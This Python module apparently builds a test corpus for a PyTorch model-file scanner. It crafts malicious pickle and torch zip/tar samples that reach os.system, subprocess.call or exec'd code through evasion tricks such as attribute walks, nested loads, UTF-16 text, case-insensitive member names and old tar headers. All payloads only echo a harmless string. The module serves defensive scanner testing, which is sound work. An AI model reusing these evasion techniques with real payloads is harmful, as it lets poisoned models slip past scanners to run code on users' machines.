"""Samples where a verdict holds only if the scanner models the loader (issue 9).

One per mechanism: an attribute walk from a module a scanner trusts, a function that calls
its argument, a nested load of bytes a constructor computes, code carried in a GraphModule,
a member torch's zip reader finds its own way, a stream a sniff would reject, a V7 tar,
number text CPython parses in base 0.  Payloads are harmless (``echo``/``print`` of
``pthforensics-corpus``, paths under ``/nonexistent``); nothing is unpickled.  The benign
ones are ``torch.save`` output that a prefix-based scanner misjudges.
"""

from __future__ import annotations

import io
import struct
import tarfile

import torch
from _common import CMD, Sample, benign, malicious, tiny_model, torch_save_bytes
from _containers import ZipEntry, read_zip, write_zip
from _opcodes import Asm, check

__all__ = ["loader_samples"]

ISSUE_9 = "pthforensics issue 9; tests/safety/oracle (differential oracle against torch.load)"
CPYTHON_PICKLE = "https://github.com/python/cpython/blob/3.11/Modules/_pickle.c"
MINIZ = "https://github.com/pytorch/pytorch/blob/v2.6.0/caffe2/serialize/inline_container.cc"
TORCH_STORAGE = "https://github.com/pytorch/pytorch/blob/v2.6.0/torch/storage.py"
FX_REDUCE = "https://github.com/pytorch/pytorch/blob/v2.6.0/torch/fx/graph_module.py"
_NOWHERE = "/nonexistent/pthforensics-corpus"


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _payload(protocol: int = 2) -> Asm:
    """``os.system(CMD)`` then POP: the shared harmless payload."""
    return Asm(protocol).call("os", "system", CMD).pop()


def _zip_with(
    data_pkl: bytes | None = None, name: str = "data.pkl", extra: list[ZipEntry] | None = None
) -> bytes:
    """``torch.save`` of the tiny model's state_dict (its ``data.pkl`` replaced by
    ``data_pkl`` and renamed ``name`` when given), with ``extra`` members appended."""
    entries: list[ZipEntry] = []
    for member, data in read_zip(torch_save_bytes(tiny_model().state_dict())):
        if member.endswith("/data.pkl") and data_pkl is not None:
            member, data = member.rsplit("/", 1)[0] + "/" + name, data_pkl
        entries.append(ZipEntry(member, data))
    return write_zip(entries + (extra or []))


def _pickles() -> list[Sample]:
    out: list[Sample] = []

    def add(name: str, asm: Asm, technique: str, reference: str, *, dis: bool = True) -> None:
        data = asm.stop().data
        if dis:
            check(data)
        out.append(malicious(name, data, technique=technique, reference=reference))

    walk = Asm(4).raw(_short("torch.nn.functional") + _short("torch.threading._os.system"))
    add(
        "walk_from_functional.pkl",
        walk.stack_global().text(CMD).tuple1().reduce().pop().none(),
        "protocol-4 dotted name from torch.nn.functional reaching os.system through module "
        "attributes (find_class walks getattr per component)",
        ISSUE_9,
    )
    getattr_walk = (
        Asm(2).global_("builtins", "getattr").global_("torch._C", "_VariableFunctionsClass")
    )
    getattr_walk.text("from_file").tuple2().reduce()
    add(
        "getattr_from_file.pkl",
        getattr_walk.text(_NOWHERE).boolean(True).integer(4).tuple3().reduce().pop().none(),
        "getattr(torch._C._VariableFunctionsClass, 'from_file'): the protocol-2 form of "
        "torch.relu, reaching the one ATen operator that maps (creates) a file",
        ISSUE_9,
    )
    callee = Asm(2).global_("torch._tensor", "_rebuild_from_type_v2").mark()
    callee.global_("numpy", "savetxt").global_("torch", "Tensor")
    callee.tuple_of(_NOWHERE, [1]).empty_dict().tuple().reduce().pop().none()
    add(
        "rebuild_from_type_savetxt.pkl",
        callee,
        "torch._tensor._rebuild_from_type_v2 returns func(*args): numpy.savetxt is only named, "
        "yet called",
        ISSUE_9,
    )
    lambdalr = Asm(2).global_("torch.optim.lr_scheduler", "LambdaLR").mark()
    lambdalr.global_("torch.optim", "SGD").mark().empty_list()
    lambdalr.global_("torch.nn.parameter", "Parameter").global_("torch", "Tensor")
    lambdalr.empty_tuple().reduce().tuple1().reduce().append().tuple().reduce()
    lambdalr.global_("functools", "partial").mark().global_("subprocess", "call").value(
        ["echo", "pthforensics-corpus"]
    )
    lambdalr.tuple().reduce().tuple().reduce().pop().none()
    add(
        "lambdalr_partial.pkl",
        lambdalr,
        "LambdaLR(optimizer, functools.partial(subprocess.call, argv)): the scheduler's first "
        "step calls lr_lambda(0)",
        ISSUE_9,
    )
    lead = Asm(None).raw(b"C\x00" + b"0").raw(_payload(4).data).none()
    add(
        "lead_short_binbytes.pkl",
        lead,
        "a first opcode (SHORT_BINBYTES, popped) outside any sniff's list: CPython reads it",
        CPYTHON_PICKLE,
    )
    hex_int = Asm(None).raw(b"I0x10\n0").raw(_payload().data).none()
    add(
        "int_hex_text.pkl",
        hex_int,
        "INT text '0x10' (strtol base 0) before the payload: pickletools stops there, CPython "
        "does not",
        CPYTHON_PICKLE,
        dis=False,
    )
    inner = _zip_with(_payload().none().stop().data)
    nested = Asm(2).global_("torch.storage", "_load_from_bytes").global_("builtins", "bytes")
    nested.empty_list().raw(b"(" + b"".join(b"K" + bytes([b]) for b in inner) + b"e")
    add(
        "nested_bytes_of_list.pkl",
        nested.tuple1().reduce().tuple1().reduce().pop().none(),
        "torch.storage._load_from_bytes(bytes([...])): the nested torch zip is computed by an "
        "allow-listed constructor, not a bytes literal",
        TORCH_STORAGE,
    )
    utf16 = Asm(2).global_("torch.storage", "_load_from_bytes").global_("_codecs", "encode")
    padded = inner + (b"\x00" if len(inner) % 2 else b"")
    text = padded.decode("utf-16-le", "surrogatepass").encode("utf-8", "surrogatepass")
    utf16.raw(b"X" + struct.pack("<I", len(text)) + text).text("utf-16-le").tuple2().reduce()
    out.append(
        malicious(
            "nested_utf16.pkl",
            utf16.tuple1().reduce().pop().none().stop().data,
            technique="_load_from_bytes(_codecs.encode(text, 'utf-16-le')): the text does not "
            "look like the bytes",
            reference=TORCH_STORAGE,
        )
    )
    body = {
        "_code": f"\nimport os\nos.system({CMD!r})\n\ndef forward(self, x):\n    return x\n",
        "training": True,
    }
    gm = Asm(4).raw(_short("torch.fx.graph_module") + _short("reduce_graph_module")).stack_global()
    add(
        "graph_module_code.pkl",
        gm.value(body).value("import torch\n").tuple2().reduce().pop().none(),
        "a pickled torch.fx GraphModule whose code runs os.system when exec'd on load",
        FX_REDUCE,
    )
    return out


def _containers() -> list[Sample]:
    out: list[Sample] = []
    evil = Asm(None).raw(b"C\x00" + b"0").raw(_payload().data).none().stop().data
    out.append(
        malicious(
            "zip_case_data_pkl.pt",
            _zip_with(evil, "DATA.PKL"),
            fmt="torch-zip",
            technique="DATA.PKL: torch's reader (miniz) finds data.pkl case-insensitively; the "
            "stream starts with an opcode a sniff rejects",
            reference=MINIZ,
        )
    )
    staged = _payload().none().stop().data
    out.append(
        malicious(
            "zip_staged_extra.pt",
            _zip_with(extra=[ZipEntry("archive/extra/notes.txt", staged)]),
            fmt="torch-zip",
            technique="a pickle staged in archive/extra/notes.txt: torch does not unpickle it, "
            "pickle.loads of the member runs it",
            reference=ISSUE_9,
        )
    )
    storage_name = Asm(None).raw(b"c!!! not a module\nFloatStorage\n0").raw(_payload().data)
    out.append(
        malicious(
            "zip_storage_name_any_module.pt",
            _zip_with(storage_name.none().stop().data),
            fmt="torch-zip",
            technique="a GLOBAL of a storage class name under a module no one can import: "
            "torch's find_class resolves it without importing, the payload after it runs",
            reference="https://github.com/pytorch/pytorch/blob/v2.6.0/torch/serialization.py",
        )
    )
    out.append(
        malicious(
            "tar_v7_storages.tar",
            _v7_tar(_payload().value(0).stop().data),
            fmt="torch-tar",
            technique="the torch < 0.4 tar layout with old V7 headers (no 'ustar' magic): "
            "tarfile, which torch.load tries first, reads it; the payload is in 'storages'",
            reference="https://github.com/python/cpython/blob/3.11/Lib/tarfile.py",
        )
    )
    return out


def _v7_tar(storages: bytes) -> bytes:
    """sys_info, storages (``storages``, then an empty view list), tensors, pickle members
    with the 'ustar' magic blanked and the header checksums recomputed."""
    members = {
        "sys_info": Asm(2).value({"protocol_version": 1001}).stop().data,
        "storages": storages + Asm(2).value([]).stop().data,
        "tensors": Asm(2).value(0).stop().data,
        "pickle": Asm(2).value({}).stop().data,
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    at = 0
    while at + 512 <= len(raw) and raw[at : at + 1] != b"\x00":
        size = int(raw[at + 124 : at + 136].rstrip(b"\x00 ") or b"0", 8)
        raw[at + 257 : at + 265] = bytes(8)
        raw[at + 148 : at + 156] = b" " * 8
        raw[at + 148 : at + 156] = b"%06o\x00 " % sum(raw[at : at + 512])
        at += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def _benign() -> list[Sample]:
    config = {"act": torch.tanh, "gate": torch.sigmoid, "gelu": torch.nn.functional.gelu}
    state = {"state_dict": tiny_model().state_dict(), "config": config}
    traced = torch.fx.symbolic_trace(
        torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    )
    return [
        benign(
            "activation_config.pt",
            torch_save_bytes(state),
            fmt="torch-zip",
            technique="a config of activation functions: protocol 2 pickles torch.tanh as "
            "getattr(torch._C._VariableFunctionsClass, 'tanh'), F.gelu as torch._C._nn.gelu",
            reference=ISSUE_9,
        ),
        benign(
            "graph_module.pt",
            torch_save_bytes(traced),
            fmt="torch-zip",
            verdict="suspicious",
            tensor_count=None,
            technique="a pickled torch.fx GraphModule: it carries code (exec'd on load) that only "
            "calls its submodules: suspicious ('carries code'), not malicious",
            reference=FX_REDUCE,
        ),
    ]


def loader_samples() -> tuple[list[Sample], list[Sample]]:
    """(benign, malicious) samples of this module."""
    return _benign(), _pickles() + _containers()
